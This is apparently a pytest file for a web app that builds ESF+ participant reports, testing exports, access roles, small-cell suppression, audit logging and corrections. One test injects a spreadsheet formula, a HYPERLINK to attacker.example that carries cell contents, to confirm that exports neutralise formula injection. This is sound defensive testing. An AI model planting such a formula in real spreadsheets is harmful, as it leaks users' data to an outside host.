import csv
import importlib.util
import io
import json
import re
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import func, select

from isok.accounts.models import Role
from isok.audit import AuditEntry
from isok.extensions import db
from isok.network import services as network_services
from isok.network.models import HalfYear
from isok.reports import exports, services
from isok.reports.models import Participation, SubmittedReport
from tests.reports.conftest import participation_of

H2 = HalfYear(2025, 2)


def _audit_count(action):
    return db.session.scalar(select(func.count(AuditEntry.id)).where(AuditEntry.action == action))


def test_the_manager_sees_the_report_with_charts_and_drill_down_links(client, login, manager, population):
    network_services.set_target(None, "clients_started_validation", 300)
    db.session.commit()
    login(manager)
    page = client.get("/reports/2025H2")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "Participants by labour-market status at entry" in html and "EECO02" in html
    assert html.count("<svg") == 3 and 'aria-labelledby="chart-timeline-title chart-timeline-desc"' in html
    assert "/reports/2025H2/records/period/labour_status/unemployed/women" in html
    assert "/reports/2025H2/records/period/project/clients_long_term/total" in html
    assert "/reports/2025H2/records/period/data_quality/excluded_long_term/total" in html
    assert "Passed: Job searching + employed does not exceed the leavers" in html


def test_the_cumulative_report_and_another_rule_set_are_a_choice_away(client, login, manager, population):
    login(manager)
    html = client.get("/reports/2025H2?scope=cumulative&rules=esf_2014_2020").get_data(as_text=True)
    assert "CO04" in html and "Above 54 years" in html
    assert (
        client.get("/reports/?period=2025H1&scope=cumulative")
        .headers["Location"]
        .endswith("/reports/2025H1?scope=cumulative")
    )


def test_other_roles_are_refused(client, login, make_user, population):
    login(make_user(Role.COUNSELLOR))
    assert client.get("/reports/2025H2").status_code == 403


def test_downloads_carry_the_same_figures(client, login, manager, population):
    login(manager)
    response = client.get("/reports/2025H2/export.xlsx")
    assert response.headers["Content-Disposition"] == 'attachment; filename="esf-report-2025H2-period.xlsx"'
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook["1 Participants by labour-market"]
    rows = {row[1].strip(): row[2:] for row in sheet.iter_rows(min_row=3, values_only=True) if row[1]}
    assert rows["Total participants"] == (3, 2, 0, 1)  # total, women, men, other: numbers, not text
    data = json.loads(client.get("/reports/2025H2/export.json").data)
    assert data["period"] == "2025H2" and data["scope"] == "period" and data["rule_set"] == "esf_plus_2021_2027"
    status = next(t for t in data["tables"] if t["key"] == "labour_status")
    assert status["rows"][-1]["cells"] == {"total": 3, "women": 2, "men": 0, "other": 1}
    csv_text = client.get("/reports/2025H2/export.csv?scope=cumulative").data.decode("utf-8-sig")
    assert (
        "2025H2,Cumulative since the project start,1. Participants by labour-market status at entry,EECO01,"
        "Total participants,Total,7" in csv_text
    )


def test_spreadsheets_and_pdf_speak_words_with_headers_that_stay_in_view(app, client, login, manager, population):
    login(manager)
    workbook = load_workbook(io.BytesIO(client.get("/reports/2025H2/export.xlsx").data))
    assert workbook.sheetnames[:3] == ["Report", "1 Participants by labour-market", "2 Participants by age at entry"]
    assert "6 Results six months after" in workbook.sheetnames and "Participants left out of the" in workbook.sheetnames
    for sheet in workbook.worksheets:  # title, then the column heads; the panes frozen below them
        assert sheet.cell(row=1, column=1).font.bold and sheet.freeze_panes in ("A3", "C3"), sheet.title
        assert all(cell.font.bold for cell in sheet[2] if cell.value is not None), sheet.title
    csv_text = client.get("/reports/2025H2/export.csv").data.decode("utf-8-sig")
    texts = [str(cell.value) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    for download in (csv_text, "\n".join(texts)):
        assert "esf_plus_2021_2027" not in download and "labour_status" not in download
        assert not re.search(r"\d{4}-\d\d-\d\dT\d\d:\d\d", download), "no raw timestamp"
    assert "ESF+ 2021–2027" in "\n".join(texts)
    public = load_workbook(io.BytesIO(client.get("/reports/2025H2/export.xlsx?public=y").data))
    for sheet in public.worksheets:
        assert sheet.cell(row=2, column=1).value.startswith("Numbers below 5 people are hidden"), sheet.title
    report = services.compute_report(H2, "period", as_of=date(2026, 2, 15))
    with app.test_request_context():
        html = exports.pdf_html(report.as_dict(), "en")
    assert "33.3&nbsp;%" in html and "white-space: nowrap" in html and "esf_plus_2021_2027" not in html


def test_text_that_looks_like_a_formula_stays_text_in_every_spreadsheet_export(
    client, login, make_user, manager, population, person
):
    """A client's name and the ESF narrative typed as formulas come out as inert text in each CSV and XLSX."""
    payload = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    person(payload, entries=[(date(2025, 9, 1), None, None)])
    network_services.create_narrative(manager, H2, progress=payload, equality="-1+1")
    network_services.create_meeting(manager, held_on=date(2025, 10, 1), attendees="Board", decisions="@SUM(A1:A9)")
    db.session.commit()
    login(make_user(Role.ADMIN))

    with client.get("/cases/export.csv") as response:
        cases_csv = response.data.decode("utf-8-sig")
    report_csv = client.get("/reports/2025H2/export.csv").data.decode("utf-8-sig")
    cells = {text: [cell for row in csv.reader(io.StringIO(text)) for cell in row] for text in (cases_csv, report_csv)}
    assert "'" + payload + " Person" in cells[cases_csv]  # the name as typed, behind an apostrophe
    for text in (cases_csv, report_csv):
        assert [cell for cell in cells[text] if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []

    workbook = load_workbook(io.BytesIO(client.get("/reports/2025H2/export.xlsx").data))
    texts = {
        cell.value: cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for typed in (payload, "-1+1", "@SUM(A1:A9)"):
        assert texts[typed].data_type == "s" and texts[typed].quotePrefix  # shown as typed, never computed
    assert not [
        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


def test_public_downloads_hide_small_cells(client, login, manager, population):
    login(manager)
    data = json.loads(client.get("/reports/2025H2/export.json?public=y").data)
    for table in data["tables"]:
        for row in table["rows"]:
            if row["unit"] == "persons":
                assert not any(isinstance(v, int) and 0 < v < 5 for v in row["cells"].values()), row
    assert data["suppression"] == {"threshold": 5}
    html = client.get("/reports/2025H2?public=y").get_data(as_text=True)
    assert "&lt;5" in html and "/records/" not in html


def test_the_pdf_is_rendered_from_the_same_html(app, client, login, manager, population):
    report = services.compute_report(H2, "period", as_of=date(2026, 2, 15))
    with app.test_request_context():
        html = exports.pdf_html(report.as_dict(), "en")
    assert (
        "<svg" in html
        and "Total participants" in html
        and "http" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")
    )
    login(manager)
    response = client.get("/reports/2025H2/export.pdf")
    if importlib.util.find_spec("isok.pdf") is None:
        assert response.status_code == 503  # the sandboxed renderer arrives with the certificates work
    else:
        assert response.status_code == 200 and response.data.startswith(b"%PDF")


def test_drill_down_lists_people_and_is_audited(client, login, manager, population):
    login(manager)
    before = _audit_count("esf_report_records_viewed")
    html = client.get("/reports/2025H2/records/period/data_quality/excluded/total").get_data(as_text=True)
    assert "Daniel Person" in html and "Eeva Person" in html and "Aino" not in html
    assert "Labour-market status at entry missing" in html
    assert f'/clients/{population["daniel"].id}"' in html
    assert _audit_count("esf_report_records_viewed") == before + 1
    assert client.get("/reports/2025H2/records/period/labour_status/total/nobody").status_code == 404


def test_opening_a_participation_record_is_audited(client, login, manager, population):
    login(manager)
    record = participation_of(population["aino"])
    before = db.session.scalar(
        select(func.count(AuditEntry.id)).where(AuditEntry.action == "view", AuditEntry.object_type == "participation")
    )
    assert client.get(f"/reports/participants/{record.id}").status_code == 200
    after = db.session.scalar(
        select(func.count(AuditEntry.id)).where(AuditEntry.action == "view", AuditEntry.object_type == "participation")
    )
    assert after == before + 1


def test_submitting_freezes_and_a_correction_needs_a_reason(client, login, manager, population):
    login(manager)
    response = client.post("/reports/2025H2/submit")
    assert response.status_code == 302
    assert db.session.scalar(select(func.count(SubmittedReport.id))) == 1
    record = participation_of(population["aino"])
    fields = {
        "entry_date": "2025-07-01",
        "gender": "female",
        "age_at_entry": "35",
        "labour_status": "unemployed",
        "long_term_unemployed": "y",
        "isced_level": "6",
        **dict.fromkeys(
            ["third_country_national", "foreign_background", "minority", "disability", "homeless", "rural"], "not_asked"
        ),
    }
    response = client.post(f"/reports/participants/{record.id}/correct", data={**fields, "reason": ""})
    assert response.status_code == 400
    assert 'value="35"' in response.get_data(as_text=True), "what was typed is kept"
    response = client.post(
        f"/reports/participants/{record.id}/correct", data={**fields, "reason": "The diploma is tertiary."}
    )
    assert response.status_code == 302
    record = db.session.get(Participation, record.id)
    assert record.isced_level == 6 and record.corrections[0].reason == "The diploma is tertiary."
    html = client.get("/reports/2025H2/corrections").get_data(as_text=True)
    assert "ISCED 5–8: tertiary" in html and "+1" in html and "-1" in html


def test_results_form_refuses_a_better_situation_for_someone_not_employed_at_entry(client, login, manager, population):
    login(manager)
    record = participation_of(population["hilja"])
    response = client.post(
        f"/reports/participants/{record.id}/results", data={"responded": "yes", "better_situation": "promotion"}
    )
    assert response.status_code == 400
    assert "only to people employed at entry" in response.get_data(as_text=True)
    response = client.post(f"/reports/participants/{record.id}/results", data={"responded": "yes"})
    assert response.status_code == 302
    assert db.session.get(Participation, record.id).result.responded is True


def test_the_command_writes_the_report(app, runner, population, tmp_path):
    result = runner.invoke(
        args=["esf-report", "--period", "2025H2", "--format", "json", "--cumulative", "--as-of", "2026-02-15"]
    )
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout_bytes)
    assert data["scope"] == "cumulative" and data["tables"][0]["rows"][-1]["cells"]["total"] == 7
    target = tmp_path / "report.xlsx"
    result = runner.invoke(args=["esf-report", "--period", "2025H2", "--format", "xlsx", "--output", str(target)])
    assert result.exit_code == 0, result.output
    assert load_workbook(target).sheetnames[1].startswith("1 ")
    assert runner.invoke(args=["esf-report", "--period", "castle"]).exit_code != 0
